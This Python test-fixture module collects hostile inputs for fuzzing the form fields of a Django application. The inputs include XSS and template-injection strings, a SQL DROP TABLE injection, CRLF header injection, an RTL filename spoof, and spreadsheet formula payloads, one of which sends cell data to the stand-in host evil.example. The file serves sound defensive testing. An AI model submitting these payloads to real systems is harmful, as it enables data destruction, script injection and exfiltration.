"""The hostile values, one named constant each, grouped by the kind of form field they attack.

TEXT goes into free-text fields, NUMBERS into numeric ones, DATES and DATETIMES into date
fields, CHOICES into choice, boolean and id fields (a short list: they accept only their
choices, so the long text corpus would only repeat the same refusal).
"""

from django.utils.html import escape

# --- Markup: must only ever be shown escaped ---------------------------------------------------
XSS_SCRIPT = "<script>alert(1)</script>"
XSS_ATTRIBUTE = '" onmouseover="alert(1)" x="'
XSS_IMG = "<img src=x onerror=alert(1)>"
XSS_TEXTAREA_BREAKOUT = "</textarea><script>alert(2)</script>"
TEMPLATE_SYNTAX = "{{ request.user.password }}{% debug %}"

# --- Database and spreadsheets -----------------------------------------------------------------
SQL_DROP = "'; DROP TABLE crf_subject; --"
SQL_TAUTOLOGY = "1' OR '1'='1"
FORMULA_HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_PLUS = "+1"
FORMULA_MINUS = "-1"
FORMULA_AT = "@SUM(1)"
FORMULA_TAB = "\t=1+1"

# --- Unicode and size --------------------------------------------------------------------------
RTL_OVERRIDE = "\u202egnp.exe\u202c"
ZERO_WIDTH = "AL\u200bT\u200d"
NUL = "a\x00b"
NUL_ONLY = "\x00"
COMBINING = "Z\u0351\u0352\u0353\u0354\u0355\u0356"
ASTRAL = "\U0001f489 \U0001d54f"
LONE_SURROGATE_ESCAPE = "\\ud800"  # as typed text: the surrogate itself cannot be posted
CRLF_INJECTION = "ok\r\nSet-Cookie: evil=1"
HUGE_TEXT = "x" * 100_000
LONG_TEXT = "y" * 5_000

MARKUP = (XSS_SCRIPT, XSS_ATTRIBUTE, XSS_IMG, XSS_TEXTAREA_BREAKOUT)

TEXT = (
    *MARKUP,
    TEMPLATE_SYNTAX,
    SQL_DROP,
    SQL_TAUTOLOGY,
    FORMULA_HYPERLINK,
    FORMULA_PLUS,
    FORMULA_MINUS,
    FORMULA_AT,
    FORMULA_TAB,
    RTL_OVERRIDE,
    ZERO_WIDTH,
    NUL,
    NUL_ONLY,
    COMBINING,
    ASTRAL,
    LONE_SURROGATE_ESCAPE,
    CRLF_INJECTION,
    HUGE_TEXT,
    "",
    "   ",
)

# --- Numbers -----------------------------------------------------------------------------------
NAN = "NaN"
SNAN = "sNaN"
INFINITY = "Infinity"
MINUS_INFINITY = "-Infinity"
INF = "inf"
OVERFLOW = "1e309"
MINUS_OVERFLOW = "-1e309"
MINUS_ZERO = "-0"
UNDERFLOW = "1e-400"
ARABIC_DIGITS = "\u0661\u0662"  # ١٢
PADDED = " 12 "
DECIMAL_COMMA = "12,5"
HUGE_INTEGER = "9" * 400
BIGINT_OVERFLOW = "99999999999999999999"
HEX = "0x1A"
UNDERSCORES = "1_000"
NEGATIVE = "-5"

NUMBERS = (
    NAN,
    SNAN,
    INFINITY,
    MINUS_INFINITY,
    INF,
    OVERFLOW,
    MINUS_OVERFLOW,
    MINUS_ZERO,
    UNDERFLOW,
    ARABIC_DIGITS,
    PADDED,
    DECIMAL_COMMA,
    HUGE_INTEGER,
    BIGINT_OVERFLOW,
    HEX,
    UNDERSCORES,
    NEGATIVE,
    NUL,
    XSS_SCRIPT,
    "",
)

# --- Dates and times ---------------------------------------------------------------------------
FEBRUARY_30 = "2026-02-30"
YEAR_ZERO = "0000-01-01"
YEAR_ONE = "0001-01-01"
LAST_DAY = "9999-12-31"
MONTH_13 = "2026-13-01"
EXPONENT_DATE = "1e9"
DATE_WITH_NUL = "2026-03-02\x00"
US_DATE = "03/02/2026"

DATES = (
    FEBRUARY_30,
    YEAR_ZERO,
    YEAR_ONE,
    LAST_DAY,
    MONTH_13,
    EXPONENT_DATE,
    DATE_WITH_NUL,
    US_DATE,
    XSS_SCRIPT,
    "",
)

DATETIMES = (
    "2026-02-30T08:00",
    "0001-01-01T00:00",
    "9999-12-31T23:59",
    "2026-03-14T25:00",
    "2026-03-29T02:30",  # the spring-forward gap in Prague: a local time that never existed
    "2026-10-25T02:30",  # the autumn fold: a local time that happened twice
    EXPONENT_DATE,
    "2026-03-14T08:00\x00",
    XSS_SCRIPT,
    "",
)

# --- Choices, booleans, ids --------------------------------------------------------------------
CHOICES = (XSS_SCRIPT, SQL_DROP, NUL, BIGINT_OVERFLOW, "-1", LONG_TEXT, "")

# --- Helpers -----------------------------------------------------------------------------------


def escaped(value: str) -> str:
    """The value as Django's autoescape writes it in HTML."""
    return str(escape(value))


def short(value: str, limit: int = 40) -> str:
    """A value as a test message names it (the 100 KB string is not printed whole)."""
    text = repr(value)
    return text if len(text) <= limit else f"{text[:limit]}... ({len(value)} chars)"
